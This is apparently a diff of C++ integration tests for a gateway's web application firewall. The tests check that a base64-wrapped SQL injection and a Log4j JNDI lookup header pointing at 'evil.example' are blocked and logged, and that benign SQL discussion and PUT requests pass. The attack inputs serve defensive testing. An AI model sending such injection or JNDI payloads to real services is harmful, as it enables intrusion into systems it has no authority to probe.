@@ -4,63 +4,29 @@
 // decoder revealed it) and a Log4j lookup, lets a forum post that discusses
 // SQL through, and allows PUT; `waf.profile: crs` answers that PUT with 403
 // as CRS's method policy does.
-#include "eventually.h"
-#include "gateway_fixture.h"
+#include "waf_fixture.h"
 
 namespace itest {
 namespace {
 
-class WafProfileTest : public GatewayTest {
+class WafProfileTest : public WafTest {
  protected:
-  ::testing::AssertionResult start_with(const std::string& waf_section = {}) {
-    config_.routes = {R"({match: {prefix: "/api/"}, upstream: api, waf: {mode: block}})"};
-    write_config_file(config_.render() + waf_section);
-    gateway_ = std::make_unique<GatewayProcess>(config_path_, config_.admin_port, dir_.path());
-    // A cold compile cache compiles CRS's databases first (~15 s on two cores).
-    return gateway_->start(std::chrono::seconds(120));
-  }
-
   HttpResponse send(const std::string& method, const std::string& target,
                     const std::string& json = {}) {
     HeaderList headers;
     if (!json.empty()) headers.emplace_back("Content-Type", "application/json");
     return http_request(port(), method, target, headers, json);
   }
-
-  // The incident of a blocked answer, once the log has it.
-  std::optional<JsonValue> incident_of(const HttpResponse& blocked) {
-    auto body = parse_json(blocked.body);
-    const std::string id = body ? body->string_at("error.incident_id") : "";
-    if (id.empty()) return std::nullopt;
-    std::optional<JsonValue> found;
-    eventually(
-        [&] {
-          const std::string text = read_file(dir_.file("incidents.log"));
-          for (std::size_t start = 0; start < text.size();) {
-            const std::size_t end = text.find('\n', start);
-            auto line = parse_json(text.substr(start, end - start));
-            if (line && line->string_at("incident_id") == id) {
-              found = line;
-              return true;
-            }
-            if (end == std::string::npos) break;
-            start = end + 1;
-          }
-          return false;
-        },
-        std::chrono::seconds(5));
-    return found;
-  }
 };
 
 TEST_F(WafProfileTest, Base64WrappedInjectionInJsonIsBlockedAndTheIncidentSaysDecoded) {
-  ASSERT_TRUE(start_with());
+  ASSERT_TRUE(start_with("{mode: block}"));
   // base64 of "1' OR '1'='1' -- ": nothing CRS reads as SQL.
   HttpResponse blocked =
       send("POST", "/api/notes", R"({"id":7,"note":"MScgT1IgJzEnPScxJyAtLSA="})");
   ASSERT_EQ(blocked.status, 403) << blocked.body;
   EXPECT_EQ(origin_.request_count("/api/notes"), 0u);
-  auto incident = incident_of(blocked);
+  auto incident = wait_for_incident(incident_id_of(blocked));
   ASSERT_TRUE(incident);
   const JsonValue* findings = incident->get("findings");
   ASSERT_TRUE(findings);
@@ -69,11 +35,11 @@ TEST_F(WafProfileTest, Base64WrappedInjectionInJsonIsBlockedAndTheIncidentSaysDe
     decoded_native |= f.string_at("source") == "centinela" && f.string_at("decoded") == "base64" &&
                       f.string_at("target") == "ARGS:json.note";
   }
-  EXPECT_TRUE(decoded_native) << read_file(dir_.file("incidents.log"));
+  EXPECT_TRUE(decoded_native) << incident_log_text();
 }
 
 TEST_F(WafProfileTest, ForumPostDiscussingSqlPasses) {
-  ASSERT_TRUE(start_with());
+  ASSERT_TRUE(start_with("{mode: block}"));
   const std::string post =
       R"({"title":"Why does my query drop rows?","body":"I run\n```sql\nSELECT name, )"
       R"(email FROM users WHERE id = 1 OR id = 2;\nDELETE FROM sessions WHERE user_id = 3;)"
@@ -85,24 +51,24 @@ TEST_F(WafProfileTest, ForumPostDiscussingSqlPasses) {
 }
 
 TEST_F(WafProfileTest, Log4jLookupIsBlocked) {
-  ASSERT_TRUE(start_with());
+  ASSERT_TRUE(start_with("{mode: block}"));
   HttpResponse blocked = http_request(port(), "GET", "/api/items",
                                       {{"X-Api-Version", "${jndi:ldap://evil.example/a}"}});
   ASSERT_EQ(blocked.status, 403) << blocked.body;
-  auto incident = incident_of(blocked);
+  auto incident = wait_for_incident(incident_id_of(blocked));
   ASSERT_TRUE(incident);
-  EXPECT_NE(read_file(dir_.file("incidents.log")).find(R"("rule":9700500)"), std::string::npos);
+  EXPECT_TRUE(has_finding(*incident, 9700500)) << incident_log_text();
 }
 
 TEST_F(WafProfileTest, PutIsAllowedInTheApiProfile) {
-  ASSERT_TRUE(start_with());
+  ASSERT_TRUE(start_with("{mode: block}"));
   HttpResponse response = send("PUT", "/api/items/7", R"({"name":"blue mug","qty":2})");
   EXPECT_EQ(response.status, 200) << response.body;
   EXPECT_EQ(send("DELETE", "/api/items/7").status, 200);
 }
 
 TEST_F(WafProfileTest, PutIsRefusedInTheCrsProfile) {
-  ASSERT_TRUE(start_with("waf: {profile: crs}\n"));
+  ASSERT_TRUE(start_with("{mode: block}", "waf: {profile: crs}\n"));
   HttpResponse response = send("PUT", "/api/items/7", R"({"name":"blue mug","qty":2})");
   EXPECT_EQ(response.status, 403) << response.body;
   EXPECT_EQ(origin_.request_count("/api/items/7"), 0u);
